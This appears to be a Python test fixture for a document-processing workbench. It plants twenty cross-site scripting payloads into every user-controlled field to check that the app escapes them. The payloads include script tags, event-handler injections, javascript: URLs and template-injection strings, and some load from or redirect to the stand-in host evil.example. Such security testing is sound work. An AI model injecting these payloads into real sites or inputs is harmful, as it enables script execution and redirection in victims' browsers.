"""Two hundred ways to run a script in somebody's browser, planted wherever text of others is kept."""

from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from alongside.core.encoding import encode
from alongside.core.engagement import Person
from alongside.core.file import File
from alongside.core.run import Run
from alongside.store import runs
from alongside.views.questions import choose_questions
from alongside.workbench import Workbench, people, review_links
from web.served import make_receipts, ship

CONTEXTS = ("prompt", "file name", "step name", "OCR text", "attribute", "note", "case name", "person", "error", "customer")  # fmt: skip
TEMPLATES = (
    "<script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</textarea><svg onload=alert('{m}')>",
    "<img src=x onerror=alert('{m}')>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    '"><img src=x onerror=alert("{m}")>',
    "'><img src=x onerror=alert('{m}')>",
    '" autofocus onfocus=alert("{m}") x="',
    "' onpointerover='alert(`{m}`)' x='",
    "javascript:alert('{m}')",
    "data:text/html,<script>alert('{m}')</script>",
    "<iframe srcdoc='<script>parent.alert(`{m}`)</script>'>",
    "<a href=javascript:alert('{m}') data-walk>x</a>",
    "<div hx-get=/leave hx-trigger=load hx-vals='js:{{x:alert(`{m}`)}}'>",
    "<form action=http://evil.example/{m}><input type=submit>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{m}'>",
    "<link rel=stylesheet href=http://evil.example/{m}.css>",
    "{{{{ ''.__class__ }}}}{{% for x in y %}} ${{alert('{m}')}}<b {m}>",
    "<math><mtext></p><style>@import'http://evil.example/{m}'</style><img src=http://evil.example/{m}>",
)  # fmt: skip


def payload(context: int, template: int) -> str:
    return TEMPLATES[template].format(m=mark(context, template))


def mark(context: int, template: int) -> str:
    return f"x{context:02}{template:02}q"


def of(context: str) -> list[str]:
    return [payload(CONTEXTS.index(context), at) for at in range(len(TEMPLATES))]


@dataclass(frozen=True)
class Planted:
    bench: Workbench
    runs: tuple[str, ...]
    cases: tuple[str, ...]
    link: str


def plant(root: Path) -> Planted:
    """An engagement in which every text that somebody else may have written is hostile."""
    bench = make_receipts(root, customer=" ".join(of("customer")))
    for at, text in enumerate(of("person")):
        people.add(bench, Person(text, ("viewer", text)[at % 2]))
    (bench.root / "prompts").mkdir(exist_ok=True)
    for at, text in enumerate(of("prompt")):
        (bench.root / "prompts" / f"p{at}.md").write_text(text)
    ship(bench)
    paper = bench.root / "documents" / "hostile.txt"
    paper.write_text("\n".join([*of("OCR text"), "Date: 14/03/2026", "TOTAL  25.30"]))
    done = bench.run("receipt", paper, version=bench.live())
    assert done.status == "done", done.error
    ids = tuple(_copy(bench, bench.find_run(done.run), at) for at in range(len(TEMPLATES)))
    cases = tuple(
        bench.add_case(run, name=name, note=note).id
        for run, name, note in zip(ids, of("case name"), of("note"), strict=True)
    )
    secret, _ = review_links.make(
        bench,
        choose_questions(bench, count=3, named=[done.run]),
        person=of("person")[0],
        by=of("person")[4],
        hours=1,
    )
    return Planted(bench, (done.run, *ids), cases, secret)


def _copy(bench: Workbench, run: Run, at: int) -> str:
    """Return a run like `run` whose file, steps, models and errors have hostile names, with a hostile word on it."""
    file = encode(File(run_source(bench, run), of("file name")[at], of("attribute")[at]))
    bench.blobs.put(file.data)
    made = replace(
        run,
        id=f"run_{at:016}",
        inputs={"file": file.digest},
        started=run.started + at + 1,
        error=of("error")[at],
        status="failed" if at % 4 == 3 else "done",
    )
    trace = [
        replace(
            span,
            step=of("step name")[at] if span.step != "alongside.parse" else span.step,
            resolved=of("attribute")[at],
            error=of("error")[at] if at % 3 == 2 else "",
            status="executed",
        )
        for span in runs.spans(bench.database, run.id)
    ]
    bench.database.write(lambda connection: runs.save(connection, made, trace))
    said: Any = {"note": of("note")[at], "by": of("person")[at]}
    bench.judge(made.id, "wrong", field="company", expected=of("OCR text")[at], **said)
    return made.id


def run_source(bench: Workbench, run: Run) -> str:
    return str(bench.value(run.inputs["file"])["source"])
